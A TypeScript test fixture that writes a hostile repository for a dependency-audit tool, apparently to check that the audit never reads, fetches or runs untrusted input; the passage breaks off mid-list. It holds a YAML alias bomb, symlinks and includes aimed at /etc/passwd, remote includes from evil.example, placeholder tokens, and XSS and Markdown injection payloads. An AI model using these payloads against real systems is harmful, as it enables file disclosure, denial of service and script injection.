/**
 * The hostile repository: every kind of broken, huge, malicious or merely odd input the audit must survive
 * (GitHub issue 6). Most of it cannot be committed to git (symbolic links out of the tree and in loops,
 * FIFOs, names with newlines, a 50 MB notebook, a 100,000-line file), so it is written at test time.
 *
 * `generateHostileRepo(dir)` writes three folders under `dir`:
 *   repo/     the repository to audit
 *   outside/  files next to the repository that links and includes point at; nothing from here may be read
 *   markers/  where setup.py, conftest.py, the notebook, the Dockerfile ... would write a file if anything
 *             executed them; the folder must still be empty after the audit
 * and returns the expectations for every entry, so the tests (and a human with the CLI) can check them.
 *
 * `generateHostileNamesRepo(dir)` writes a smaller repository whose file names, distribution names,
 * specifiers, image names and requirement lines are Markdown / HTML / mention injections, for the PR
 * comment renderer.
 */
import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { execFileSync } from "node:child_process";
import { dirname, join } from "node:path";

/**
 * What the audit must do with one entry.
 * - `finding`: the report has an MFA001 parse-error or MFA002 skipped-file finding naming the path
 *   (`kinds` narrows which), and the rest of the report is intact.
 * - `read`: the file is read: the listed imports / declared names show up in its facts.
 * - `read-or-finding`: either is acceptable (lenient readers may recover, strict ones report).
 * - `not-read`: the entry must not be read and must not hang the audit (FIFOs, folders named `x.py`,
 *   folder links); a finding is allowed but not required.
 */
export type Expect = "finding" | "read" | "read-or-finding" | "not-read";

export interface HostileEntry {
  /** Repo-relative path, `/`-separated, exactly as the report must print it. */
  path: string;
  category: "manifest" | "python" | "notebook" | "file" | "exec" | "secret";
  expect: Expect;
  /** For `finding`: the acceptable problem kinds (default: either). */
  kinds?: ("parse-error" | "skipped")[];
  /** Modules the file's facts must list as imported (for `read`, and for `read-or-finding` when read). */
  imports?: string[];
  /** Distribution names (as written) the file's facts must declare, with optional exact specifier / line. */
  declared?: { name: string; specifier?: string; line?: number }[];
  /** Why the entry is here. */
  note: string;
}

export interface HostileManifest {
  /** The repository to audit. */
  root: string;
  /** Files beside the repository that must never be read. */
  outside: string;
  /** Folder in which executed code would leave marker files. */
  markers: string;
  entries: HostileEntry[];
  /** Strings that exist only outside the root (or only in environment secrets): they must appear nowhere in the report. */
  forbiddenStrings: string[];
  /** Environment variables the tests set while auditing, whose values must never be echoed. */
  secretEnv: Record<string, string>;
  /** Total bytes written. */
  bytes: number;
}

/** Secret values the tests put in the environment; the repository references them by name only. */
export const SECRET_ENV: Readonly<Record<string, string>> = {
  GITHUB_TOKEN: "ghp_HOSTILEtestTOKEN0000000000000000000001",
  "INPUT_GITHUB-TOKEN": "ghs_HOSTILEinputTOKEN000000000000000000002",
  PIP_TOKEN: "pip-HOSTILE-secret-0003",
  AWS_SECRET_ACCESS_KEY: "HOSTILEawsSECRETkey0000000000000000000004",
};

/** Names that exist only in `outside/`: the report mentioning one means the audit read outside the root. */
export const OUTSIDE_MODULE = "outside_secret_module_7f3a";
export const OUTSIDE_PACKAGE = "outside-secret-package-7f3a";

const NOTEBOOK_OUTPUT_MB = 50;

class Writer {
  bytes = 0;
  constructor(readonly base: string) {}
  file(rel: string, content: string | Uint8Array): string {
    const abs = join(this.base, rel);
    mkdirSync(dirname(abs), { recursive: true });
    writeFileSync(abs, content);
    this.bytes += typeof content === "string" ? Buffer.byteLength(content) : content.length;
    return abs;
  }
  link(rel: string, target: string): void {
    const abs = join(this.base, rel);
    mkdirSync(dirname(abs), { recursive: true });
    symlinkSync(target, abs);
  }
}

/** A Python statement that, if the file were ever run or imported, would create `marker`. */
function markerPython(marker: string): string {
  return `open(${JSON.stringify(marker)}, "w").write("executed")\n`;
}

function notebook(cells: unknown[], extra: Record<string, unknown> = {}): string {
  return JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5, ...extra }, null, 1);
}

function codeCell(source: string | string[], outputs: unknown[] = []): Record<string, unknown> {
  return { cell_type: "code", execution_count: null, metadata: {}, outputs, source };
}

/** Writes the hostile repository under `dir` (which must exist and be empty). */
export function generateHostileRepo(dir: string): HostileManifest {
  const root = join(dir, "repo");
  const outside = join(dir, "outside");
  const markers = join(dir, "markers");
  mkdirSync(root, { recursive: true });
  mkdirSync(outside, { recursive: true });
  mkdirSync(markers, { recursive: true });
  const w = new Writer(root);
  const out = new Writer(outside);
  const entries: HostileEntry[] = [];
  const add = (e: HostileEntry) => entries.push(e);
  const marker = (name: string) => join(markers, name);

  // ---------------------------------------------------------------- outside the root
  out.file("secret.py", `import ${OUTSIDE_MODULE}\n`);
  out.file("requirements.txt", `${OUTSIDE_PACKAGE}==6.6.6\n`);
  out.file("constraints.txt", `${OUTSIDE_PACKAGE}<7\n`);
  out.file("pkg/__init__.py", `import ${OUTSIDE_MODULE}\n`);

  // ---------------------------------------------------------------- a sane core, so "the rest of the report is intact" is checkable
  w.file("train.py", "import torch\nimport torch.nn as nn\n\nmodel = torch.compile(nn.Linear(4, 2))\n");
  add({ path: "train.py", category: "python", expect: "read", imports: ["torch"], note: "a normal file: must survive everything around it" });
  w.file("requirements.txt", "torch>=2.1\nnumpy\n");
  add({ path: "requirements.txt", category: "manifest", expect: "read", declared: [{ name: "torch", specifier: ">=2.1", line: 1 }], note: "a normal manifest" });

  // ---------------------------------------------------------------- manifests
  w.file("manifests/toml-syntax/pyproject.toml", '[project\nname = "broken"\ndependencies = ["torch"\n');
  add({ path: "manifests/toml-syntax/pyproject.toml", category: "manifest", expect: "finding", kinds: ["parse-error"], note: "TOML syntax error" });
  w.file("manifests/toml-types/pyproject.toml", '[project]\nname = "wrong-types"\ndependencies = 3\n\n[project.optional-dependencies]\ngpu = "torch"\n');
  add({ path: "manifests/toml-types/pyproject.toml", category: "manifest", expect: "finding", kinds: ["parse-error"], note: "dependencies = 3 (wrong type)" });
  w.file("manifests/poetry-types/pyproject.toml", '[tool.poetry]\nname = "x"\ndependencies = "torch"\n\n[tool.poetry.group.dev]\ndependencies = [1, 2]\n');
  add({ path: "manifests/poetry-types/pyproject.toml", category: "manifest", expect: "finding", kinds: ["parse-error"], note: "Poetry tables of the wrong type" });
  w.file("manifests/toml-deep/pyproject.toml", `[project]\nname = "deep"\nx = ${"[".repeat(50_000)}${"]".repeat(50_000)}\ndependencies = ["torch"]\n`);
  add({ path: "manifests/toml-deep/pyproject.toml", category: "manifest", expect: "read-or-finding", declared: [{ name: "torch" }], note: "50,000 nested TOML arrays (recursion depth)" });
  w.file("manifests/yaml-syntax/environment.yml", "name: broken\ndependencies:\n  - python=3.11\n  - [unclosed, flow\n  - pytorch\n");
  add({ path: "manifests/yaml-syntax/environment.yml", category: "manifest", expect: "finding", kinds: ["parse-error"], note: "YAML syntax error" });
  w.file("manifests/yaml-types/environment.yml", "name: wrong\ndependencies: 3\nchannels: {a: b}\n");
  add({ path: "manifests/yaml-types/environment.yml", category: "manifest", expect: "finding", kinds: ["parse-error"], note: "dependencies: 3 (wrong type)" });
  {
    // Billion laughs: 9 levels of 9 aliases = 387 million nodes if expanded.
    const lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let i = 1; i <= 9; i++) lines.push(`a${i}: &a${i} [${Array.from({ length: 9 }, () => `*a${i - 1}`).join(",")}]`);
    lines.push("dependencies:", "  - *a9", "  - pytorch");
    w.file("manifests/yaml-bomb/environment.yml", lines.join("\n") + "\n");
  }
  add({ path: "manifests/yaml-bomb/environment.yml", category: "manifest", expect: "finding", kinds: ["parse-error"], note: "YAML alias bomb (billion laughs)" });
  w.file("manifests/ini-syntax/setup.cfg", "[metadata\nname = broken\n[options]\ninstall_requires =\n    torch\n  = = =\nstray line without a key\n");
  add({ path: "manifests/ini-syntax/setup.cfg", category: "manifest", expect: "read-or-finding", note: "INI syntax error (unclosed section header)" });
  w.file("manifests/ini-noheader/setup.cfg", "install_requires = torch\n[options\n");
  add({ path: "manifests/ini-noheader/setup.cfg", category: "manifest", expect: "finding", kinds: ["parse-error"], note: "INI without any valid section header" });
  w.file("manifests/json-syntax/Pipfile.lock", '{"_meta": {}, "default": {"torch": {"version": "==2.1.0"}');
  add({ path: "manifests/json-syntax/Pipfile.lock", category: "manifest", expect: "finding", kinds: ["parse-error"], note: "JSON syntax error (truncated)" });
  w.file("manifests/json-syntax/package.json", '{"name": "x", "dependencies": {"@tensorflow/tfjs": }}');
  add({ path: "manifests/json-syntax/package.json", category: "manifest", expect: "finding", kinds: ["parse-error"], note: "JSON syntax error" });
  w.file("manifests/json-types/package.json", '{"name": "x", "dependencies": ["@tensorflow/tfjs"], "devDependencies": 3}');
  add({ path: "manifests/json-types/package.json", category: "manifest", expect: "read-or-finding", note: "package.json dependencies as an array" });
  w.file("manifests/json-deep/package.json", `{"name": "deep", "x": ${"[".repeat(100_000)}${"]".repeat(100_000)}, "dependencies": {"@tensorflow/tfjs": "^4"}}`);
  add({ path: "manifests/json-deep/package.json", category: "manifest", expect: "read-or-finding", declared: [{ name: "@tensorflow/tfjs" }], note: "100,000 nested JSON arrays" });
  w.file("manifests/pipfile-syntax/Pipfile", '[packages\ntorch = "*"\n');
  add({ path: "manifests/pipfile-syntax/Pipfile", category: "manifest", expect: "finding", kinds: ["parse-error"], note: "Pipfile TOML syntax error" });
  w.file("manifests/pipfile-types/Pipfile", 'packages = 3\n[dev-packages]\ntorch = 4\n');
  add({ path: "manifests/pipfile-types/Pipfile", category: "manifest", expect: "finding", kinds: ["parse-error"], note: "Pipfile tables of the wrong type" });
  w.file("manifests/setup-py-broken/setup.py", 'from setuptools import setup\nsetup(name="x", install_requires=["torch>=2.0", \n');
  add({ path: "manifests/setup-py-broken/setup.py", category: "manifest", expect: "read-or-finding", note: "setup.py that does not parse" });
  w.file("manifests/docker-broken/Dockerfile", "FROM\nRUN pip install \\\nARG =\nFROM ${UNCLOSED\nRUN pip install --index-url torch\n");
  add({ path: "manifests/docker-broken/Dockerfile", category: "manifest", expect: "read-or-finding", note: "Dockerfile with empty FROM, dangling continuation, bad ARG" });
  w.file("manifests/poetry-lock-broken/poetry.lock", '[[package]]\nname = "torch"\nversion = 2\n[[package]\n');
  add({ path: "manifests/poetry-lock-broken/poetry.lock", category: "manifest", expect: "finding", kinds: ["parse-error"], note: "poetry.lock syntax error" });

  // requirements: size, includes, options, encodings
  {
    const lines: string[] = [];
    for (let i = 1; i < 10_000; i++) lines.push(`generated-package-${String(i).padStart(5, "0")}==1.${i % 97}.0`);
    lines.push("torch==2.3.0");
    w.file("requirements/big.txt", lines.join("\n") + "\n");
  }
  add({ path: "requirements/big.txt", category: "manifest", expect: "read", declared: [{ name: "torch", specifier: "==2.3.0", line: 10_000 }, { name: "generated-package-00001", line: 1 }], note: "10,000-line requirements file" });
  w.file("requirements/cycle-a.txt", "-r cycle-b.txt\ntensorflow==2.15.0\n");
  w.file("requirements/cycle-b.txt", "-r cycle-a.txt\nkeras==3.0.0\n");
  add({ path: "requirements/cycle-a.txt", category: "manifest", expect: "finding", kinds: ["skipped", "parse-error"], declared: [{ name: "tensorflow", specifier: "==2.15.0" }], note: "-r include cycle a -> b -> a" });
  add({ path: "requirements/cycle-b.txt", category: "manifest", expect: "finding", kinds: ["skipped", "parse-error"], declared: [{ name: "keras" }], note: "-r include cycle b -> a -> b" });
  w.file("requirements/self.txt", "-r self.txt\n-r ./self.txt\ntorch\n");
  add({ path: "requirements/self.txt", category: "manifest", expect: "finding", kinds: ["skipped", "parse-error"], declared: [{ name: "torch" }], note: "a file that includes itself" });
  w.file("requirements/outside.txt", `-r ../../outside/requirements.txt\n-r ${join(outside, "requirements.txt")}\n-c ../../outside/constraints.txt\n-r /etc/passwd\n-r ../links/../../outside/requirements.txt\ntorch\n`);
  add({ path: "requirements/outside.txt", category: "manifest", expect: "finding", kinds: ["skipped", "parse-error"], declared: [{ name: "torch" }], note: "includes pointing outside the root (relative, absolute, /etc/passwd)" });
  w.file("requirements/missing.txt", "-r does-not-exist.txt\n-c nope/constraints.txt\ntorch\n");
  add({ path: "requirements/missing.txt", category: "manifest", expect: "finding", kinds: ["skipped", "parse-error"], declared: [{ name: "torch" }], note: "includes of missing files" });
  w.file("requirements/remote.txt", "-r https://evil.example/requirements.txt\n-c http://evil.example/c.txt\ntorch\n");
  add({ path: "requirements/remote.txt", category: "manifest", expect: "finding", kinds: ["skipped", "parse-error"], declared: [{ name: "torch" }], note: "remote includes: never fetched" });
  w.file("requirements/unknown-option.txt", "--frobnicate=yes\n--use-feature=fast-deps\n-Z\ntorch==2.1.0\n");
  add({ path: "requirements/unknown-option.txt", category: "manifest", expect: "finding", kinds: ["parse-error", "skipped"], declared: [{ name: "torch", specifier: "==2.1.0", line: 4 }], note: "unknown pip options" });
  w.file("requirements/latin1.txt", Buffer.concat([Buffer.from("# caf"), Buffer.from([0xe9]), Buffer.from("\ntorch==2.1.0  # d"), Buffer.from([0xe9, 0x6a, 0xe0]), Buffer.from("\n")]));
  add({ path: "requirements/latin1.txt", category: "manifest", expect: "read", declared: [{ name: "torch", specifier: "==2.1.0", line: 2 }], note: "non-UTF-8 bytes (Latin-1)" });
  w.file("requirements/bom.txt", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from("tensorflow==2.15.0\n")]));
  add({ path: "requirements/bom.txt", category: "manifest", expect: "read", declared: [{ name: "tensorflow", specifier: "==2.15.0", line: 1 }], note: "UTF-8 BOM" });
  w.file("requirements/crlf.txt", "numpy==1.26.0\r\ntorch>=2.0\r\n# tensorflow\r\n");
  add({ path: "requirements/crlf.txt", category: "manifest", expect: "read", declared: [{ name: "torch", specifier: ">=2.0", line: 2 }], note: "CRLF line ends" });
  w.file("requirements/cr-only.txt", "numpy==1.26.0\rtorch>=2.0\r");
  add({ path: "requirements/cr-only.txt", category: "manifest", expect: "read", declared: [{ name: "torch", specifier: ">=2.0", line: 2 }], note: "old Mac CR line ends" });
  w.file("requirements/env-secrets.txt", "--extra-index-url https://${PIP_TOKEN}@pypi.example/simple\n--index-url https://user:${GITHUB_TOKEN}@pypi.example/simple\ntorch @ https://${AWS_SECRET_ACCESS_KEY}@files.example/torch-2.1.0-cp311-cp311-linux_x86_64.whl\n");
  add({ path: "requirements/env-secrets.txt", category: "secret", expect: "read", declared: [{ name: "torch" }], note: "pip expands ${VAR} in requirements files; the audit must not (secrets would reach the comment)" });

  // ---------------------------------------------------------------- Python
  w.file("py/syntax_error.py", "import torch\n\ndef broken(:\n    return )\nclass\n");
  add({ path: "py/syntax_error.py", category: "python", expect: "read-or-finding", imports: ["torch"], note: "syntax errors" });
  w.file("py/python2.py", 'import tensorflow as tf\nprint "hello"\nexec "x = 1"\ntry:\n    pass\nexcept Exception, e:\n    raise ValueError, "old"\nprint >>sys.stderr, `x`\n');
  add({ path: "py/python2.py", category: "python", expect: "read-or-finding", imports: ["tensorflow"], note: "Python 2 syntax" });
  {
    const parts = ["import torch\n"];
    for (let i = 0; i < 99_998; i++) parts.push(`value_${i} = compute(${i}, "s${i % 10}")  # generated\n`);
    parts.push("import tensorflow\n");
    w.file("py/generated_100k.py", parts.join(""));
  }
  add({ path: "py/generated_100k.py", category: "python", expect: "read", imports: ["torch", "tensorflow"], note: "100,000-line generated file (import on the last line)" });
  w.file("py/deep_nesting.py", `x = ${"(".repeat(100_000)}1${")".repeat(100_000)}\ny = ${"[".repeat(50_000)}${"]".repeat(50_000)}\nz = ${"-".repeat(100_000)}1\nimport torch\n`);
  add({ path: "py/deep_nesting.py", category: "python", expect: "read-or-finding", imports: ["torch"], note: "100,000 nested parentheses (no stack overflow)" });
  w.file("py/nul_bytes.py", Buffer.concat([Buffer.from("import torch\n"), Buffer.from([0, 0, 0, 0]), Buffer.from("\nimport tensorflow\n")]));
  add({ path: "py/nul_bytes.py", category: "python", expect: "read-or-finding", note: "NUL bytes in source" });
  w.file("py/late_nul.py", Buffer.concat([Buffer.from("# padding\n".repeat(1200)), Buffer.from([0]), Buffer.from("\nimport torch\n")]));
  add({ path: "py/late_nul.py", category: "python", expect: "read-or-finding", note: "a NUL byte after the first 8 KiB" });
  w.file("py/latin1_coding.py", Buffer.concat([Buffer.from("# -*- coding: latin-1 -*-\n# caf"), Buffer.from([0xe9]), Buffer.from('\nimport torch\ns = "'), Buffer.from([0xe9, 0x74, 0xe9]), Buffer.from('"\n')]));
  add({ path: "py/latin1_coding.py", category: "python", expect: "read", imports: ["torch"], note: "PEP 263 coding line (latin-1) with non-UTF-8 bytes" });
  w.file("py/mixed_encoding.py", Buffer.concat([Buffer.from("#!/usr/bin/env python\n# vim: set fileencoding=cp1252 :\n"), Buffer.from("# utf-8 here: caf\u00e9\n", "utf8"), Buffer.from([0x23, 0x20, 0x93, 0x71, 0x94, 0x0a]), Buffer.from("import tensorflow as tf\n")]));
  add({ path: "py/mixed_encoding.py", category: "python", expect: "read", imports: ["tensorflow"], note: "cp1252 coding line, UTF-8 and cp1252 bytes mixed" });
  w.file("py/utf16.py", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("import torch\n", "utf16le")]));
  add({ path: "py/utf16.py", category: "python", expect: "read-or-finding", note: "UTF-16 with BOM (NUL bytes)" });
  w.file("py/binary.py", Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, ...Array.from({ length: 2048 }, (_, i) => (i * 131) % 256)]));
  add({ path: "py/binary.py", category: "file", expect: "finding", kinds: ["skipped"], note: "a PNG named .py" });
  w.file("py/bom_crlf.py", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from("import torch\r\nimport tensorflow\r\n")]));
  add({ path: "py/bom_crlf.py", category: "python", expect: "read", imports: ["torch", "tensorflow"], note: "BOM and CRLF" });
  {
    // Over the default 8 MiB cap: a skipped finding, never read.
    const line = "# padding to exceed the size cap ..........................................\n";
    w.file("py/too_big.py", "import torch\n" + line.repeat(Math.ceil((8.5 * 1024 * 1024) / line.length)));
  }
  add({ path: "py/too_big.py", category: "file", expect: "finding", kinds: ["skipped"], note: "over the 8 MiB file size cap" });
  execFileSync("mkfifo", [join(root, "py/fifo.py")]);
  add({ path: "py/fifo.py", category: "file", expect: "not-read", note: "a FIFO named .py: reading it would block forever" });
  w.file("py/dir.py/inner.py", "import torch\n");
  add({ path: "py/dir.py/inner.py", category: "python", expect: "read", imports: ["torch"], note: "a folder named dir.py; the file inside is read" });
  add({ path: "py/dir.py", category: "file", expect: "not-read", note: "a folder named like a Python file" });
  w.file("py/unreadable.py", "import torch\n");
  chmodSync(join(root, "py/unreadable.py"), 0o000);
  const isRoot = typeof process.getuid === "function" && process.getuid() === 0;
  add({
    path: "py/unreadable.py",
    category: "file",
    expect: isRoot ? "read" : "finding",
    kinds: ["skipped"],
    ...(isRoot ? { imports: ["torch"] } : {}),
    note: isRoot ? "chmod 000, but root reads it anyway (the tests run as root)" : "chmod 000: unreadable",
  });

  // ---------------------------------------------------------------- symbolic links
  w.link("links/loop_a.py", "loop_b.py");
  w.link("links/loop_b.py", "loop_a.py");
  add({ path: "links/loop_a.py", category: "file", expect: "finding", kinds: ["skipped"], note: "symlink loop a -> b -> a" });
  add({ path: "links/loop_b.py", category: "file", expect: "finding", kinds: ["skipped"], note: "symlink loop b -> a -> b" });
  w.link("links/self.py", "self.py");
  add({ path: "links/self.py", category: "file", expect: "finding", kinds: ["skipped"], note: "symlink to itself" });
  w.link("links/outside_abs.py", join(outside, "secret.py"));
  add({ path: "links/outside_abs.py", category: "file", expect: "finding", kinds: ["skipped"], note: "absolute symlink to a file outside the root" });
  w.link("links/outside_rel.py", "../../outside/secret.py");
  add({ path: "links/outside_rel.py", category: "file", expect: "finding", kinds: ["skipped"], note: "relative symlink to a file outside the root" });
  w.link("links/requirements.txt", "../../outside/requirements.txt");
  add({ path: "links/requirements.txt", category: "file", expect: "finding", kinds: ["skipped"], note: "a manifest symlinked from outside the root" });
  w.link("links/outside_dir", outside);
  add({ path: "links/outside_dir", category: "file", expect: "not-read", note: "symlink to a folder outside the root: never entered" });
  w.link("links/dir_loop", ".");
  add({ path: "links/dir_loop", category: "file", expect: "not-read", note: "symlink to its own folder: never entered" });
  w.link("links/etc_passwd.py", "/etc/passwd");
  add({ path: "links/etc_passwd.py", category: "file", expect: "finding", kinds: ["skipped"], note: "symlink to /etc/passwd" });
  w.link("links/dangling.py", "does/not/exist.py");
  add({ path: "links/dangling.py", category: "file", expect: "finding", kinds: ["skipped"], note: "dangling symlink" });
  w.link("links/fifo_link.py", "../py/fifo.py");
  add({ path: "links/fifo_link.py", category: "file", expect: "not-read", note: "symlink to the FIFO" });

  // ---------------------------------------------------------------- odd names
  const oddNames = [
    "names/with space.py",
    "names/\u00fcn\u00efc\u00f6d\u00e9_\u6a21\u578b.py",
    "names/new\nline.py",
    "names/back`tick`.py",
    "names/<lt>gt.py",
    "names/a|b|c.py",
    "names/@octocat.py",
    "names/tab\there.py",
    "names/carriage\rreturn.py",
    "names/-leading-dash.py",
    "names/requirements with space.txt",
  ];
  for (const name of oddNames) {
    if (name.endsWith(".txt")) {
      w.file(name, "torch==2.2.0\n");
      add({ path: name, category: "file", expect: "read", declared: [{ name: "torch", specifier: "==2.2.0", line: 1 }], note: "odd file name" });
    } else {
      w.file(name, "import torch\n");
      add({ path: name, category: "file", expect: "read", imports: ["torch"], note: "odd file name" });
    }
  }
  {
    // A very long path: 15 folders of 200 characters (about 3,000 characters in all; PATH_MAX is 4,096).
    const segs = Array.from({ length: 15 }, (_, i) => `${String(i).padStart(2, "0")}${"d".repeat(198)}`);
    const long = `long/${segs.join("/")}/model.py`;
    w.file(long, "import torch\n");
    add({ path: long, category: "file", expect: "read", imports: ["torch"], note: "a 3,000-character path" });
  }

  // ---------------------------------------------------------------- notebooks
  w.file("nb/invalid.ipynb", '{"cells": [{"cell_type": "code", "source": ["import torch\\n"]');
  add({ path: "nb/invalid.ipynb", category: "notebook", expect: "finding", kinds: ["parse-error"], note: "invalid JSON" });
  w.file("nb/empty.ipynb", "");
  add({ path: "nb/empty.ipynb", category: "notebook", expect: "finding", kinds: ["parse-error"], note: "empty file" });
  w.file("nb/not_object.ipynb", "[1, 2, 3]");
  add({ path: "nb/not_object.ipynb", category: "notebook", expect: "finding", kinds: ["parse-error"], note: "JSON that is not a notebook object" });
  w.file(
    "nb/v3.ipynb",
    JSON.stringify({
      metadata: { name: "old" },
      nbformat: 3,
      nbformat_minor: 0,
      worksheets: [{ cells: [{ cell_type: "markdown", source: ["# title"] }, { cell_type: "code", language: "python", input: ["import torch\n", "x = 1\n"], outputs: [] }], metadata: {} }],
    }),
  );
  add({ path: "nb/v3.ipynb", category: "notebook", expect: "read-or-finding", imports: ["torch"], note: "nbformat 3 (worksheets, `input`)" });
  w.file("nb/string_source.ipynb", notebook([{ cell_type: "markdown", metadata: {}, source: "import keras  (markdown: not code)" }, codeCell("import torch\nx = torch.zeros(1)\n")]));
  add({ path: "nb/string_source.ipynb", category: "notebook", expect: "read", imports: ["torch"], note: "nbformat 4, source as one string" });
  w.file("nb/list_source.ipynb", notebook([codeCell(["import numpy as np\n", "import tensorflow as tf\n"])]));
  add({ path: "nb/list_source.ipynb", category: "notebook", expect: "read", imports: ["tensorflow"], note: "nbformat 4, source as a list of lines" });
  w.file("nb/missing_cells.ipynb", JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {} }));
  add({ path: "nb/missing_cells.ipynb", category: "notebook", expect: "read-or-finding", note: "no `cells` key" });
  w.file("nb/odd_cells.ipynb", JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells: [null, 3, "x", {}, { cell_type: "code" }, { cell_type: "code", source: 5 }, { cell_type: "code", source: [1, null, "import torch\n"] }, { source: "import jax\n" }, codeCell("import tensorflow\n")] }));
  add({ path: "nb/odd_cells.ipynb", category: "notebook", expect: "read-or-finding", imports: ["tensorflow"], note: "cells that are null, numbers, without keys, with source of the wrong type" });
  w.file("nb/deep_metadata.ipynb", `{"nbformat": 4, "nbformat_minor": 5, "metadata": {"x": ${"[".repeat(100_000)}${"]".repeat(100_000)}}, "cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "source": "import torch\\n"}]}`);
  add({ path: "nb/deep_metadata.ipynb", category: "notebook", expect: "read-or-finding", imports: ["torch"], note: "100,000 nested arrays in the metadata" });
  {
    // About 50 MB of embedded outputs (five 10 MB base64 images); the code is in the last cell.
    const chunk = "iVBORw0KGgo" + "A".repeat(10 * 1024 * 1024);
    const outputs = Array.from({ length: NOTEBOOK_OUTPUT_MB / 10 }, () => ({ output_type: "display_data", data: { "image/png": chunk, "text/plain": ["<Figure>"] }, metadata: {} }));
    w.file("nb/huge_outputs.ipynb", notebook([codeCell("import matplotlib.pyplot as plt\nplt.plot([1])\n", outputs), codeCell(["import torch\n"])]));
  }
  add({ path: "nb/huge_outputs.ipynb", category: "notebook", expect: "read", imports: ["torch"], note: "about 50 MB of embedded outputs" });

  // ---------------------------------------------------------------- never executed
  w.file(
    "setup.py",
    `import os\n${markerPython(marker("setup.py.ran"))}from setuptools import setup\nsetup(name="hostile", version="0.0.1", install_requires=["torch>=2.0"])\n`,
  );
  add({ path: "setup.py", category: "exec", expect: "read", declared: [{ name: "torch", specifier: ">=2.0" }], note: "writes a marker when run" });
  w.file("conftest.py", `import pytest\n${markerPython(marker("conftest.py.ran"))}`);
  add({ path: "conftest.py", category: "exec", expect: "read", note: "writes a marker when imported by pytest" });
  w.file("sitecustomize.py", markerPython(marker("sitecustomize.py.ran")));
  add({ path: "sitecustomize.py", category: "exec", expect: "read", note: "writes a marker when Python starts here" });
  w.file("hostile_pkg/__init__.py", `${markerPython(marker("init.py.ran"))}import torch\n`);
  add({ path: "hostile_pkg/__init__.py", category: "exec", expect: "read", imports: ["torch"], note: "writes a marker when imported" });
  w.file("hostile_pkg/__main__.py", markerPython(marker("main.py.ran")));
  add({ path: "hostile_pkg/__main__.py", category: "exec", expect: "read", note: "writes a marker when run with -m" });
  w.file(
    "exec/run_me.ipynb",
    notebook([
      codeCell([`import torch\n`, markerPython(marker("notebook.ran"))]),
      codeCell([`!touch ${marker("notebook-shell.ran")}\n`, `%pip install tensorflow\n`, `%run ../setup.py\n`]),
    ]),
  );
  add({ path: "exec/run_me.ipynb", category: "exec", expect: "read", imports: ["torch"], note: "code, shell and magic cells that write markers if run" });
  w.file("exec/Dockerfile", `FROM python:3.11\nRUN touch ${marker("dockerfile.ran")}\nRUN pip install torch==2.1.0\n`);
  add({ path: "exec/Dockerfile", category: "exec", expect: "read", declared: [{ name: "torch", specifier: "==2.1.0" }], note: "RUN writes a marker if built" });
  w.file("exec/requirements.txt", `-e .\n-e git+file://${outside}#egg=evil\n./local-wheel\ntorch\n`);
  add({ path: "exec/requirements.txt", category: "exec", expect: "read", declared: [{ name: "torch" }], note: "editable and local installs: never built" });
  w.file("exec/pyproject.toml", `[build-system]\nrequires = ["setuptools"]\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n\n[project]\nname = "x"\nversion = "1"\ndependencies = ["tensorflow>=2.15"]\n`);
  w.file("exec/evil_backend.py", markerPython(marker("build-backend.ran")));
  add({ path: "exec/pyproject.toml", category: "exec", expect: "read", declared: [{ name: "tensorflow", specifier: ">=2.15" }], note: "an in-tree build backend that writes a marker if imported" });

  return {
    root,
    outside,
    markers,
    entries,
    forbiddenStrings: [OUTSIDE_MODULE, OUTSIDE_PACKAGE, "root:x:0:0", ...Object.values(SECRET_ENV)],
    secretEnv: { ...SECRET_ENV },
    bytes: w.bytes + out.bytes,
  };
}

// ====================================================================================================
// Hostile names for the Markdown renderer
// ====================================================================================================

export interface HostileNamesManifest {
  root: string;
  /** Every repo-controlled string that should reach the report, as written. */
  strings: string[];
  /** Substrings that must never end up inside a link/image URL or raw HTML of the rendered comment. */
  taint: string[];
}

/** Payloads that try to open links, images, HTML, tables and mentions, or to close `<details>`. */
export const INJECTIONS: readonly string[] = [
  "[click](https:evil.example)",
  "![img](http:evil.example)",
  "<img src=x onerror=alert(1)>",
  "</details>",
  "</summary><b>bold",
  "<!-- comment",
  "a | b | c",
  "@octocat",
  "`code` ``x``",
  "*em* _em_ **strong**",
  "<https:evil.example>",
  "www.evil.example",
  "#1 GH-1",
  "&lt;entity&gt; &#60;",
  "[ref][evil]",
  "\\[escaped]",
  "$x$ $$y$$",
  "~~strike~~",
  "\u202eevil\u202c",
];

/**
 * A repository whose file names, folder names, requirement lines, conda names, image names and specifiers
 * carry the injections above. File names can hold every payload but `/`; the repository also gets one
 * unreadable (binary) file per payload, so each name reaches the findings table, and a requirements file per
 * payload folder, so each name reaches the declared-dependency lists.
 */
export function generateHostileNamesRepo(dir: string): HostileNamesManifest {
  const root = join(dir, "names-repo");
  mkdirSync(root, { recursive: true });
  const w = new Writer(root);
  const strings: string[] = [];
  INJECTIONS.forEach((payload, i) => {
    const safe = payload.replace(/\//g, "\u2215"); // DIVISION SLASH: file names cannot hold `/`
    const folder = `p${i}-${safe}`;
    w.file(`${folder}/train ${safe}.py`, "import torch\nimport tensorflow as tf\n");
    w.file(`${folder}/blob ${safe}.py`, Buffer.from([0, 1, 2, 3, 0, 0]));
    w.file(`${folder}/requirements.txt`, `torch==2.1.0\ntensorflow==2.15.0\n${payload}\n`);
    w.file(`${folder}/broken.ipynb`, `{"cells": [ ${payload}`);
    strings.push(`${folder}/train ${safe}.py`, `${folder}/blob ${safe}.py`, `${folder}/requirements.txt`);
  });
  // Distribution names, specifiers, URLs and images that carry payloads.
  w.file(
    "environment.yml",
    [
      "name: hostile",
      "channels:",
      "  - '[chan](https:evil.example)'",
      "dependencies:",
      "  - pytorch=2.1",
      "  - '<img src=x onerror=alert(1)>'",
      "  - '[dep](https:evil.example)=1.0'",
      "  - '@octocat'",
      "  - pip:",
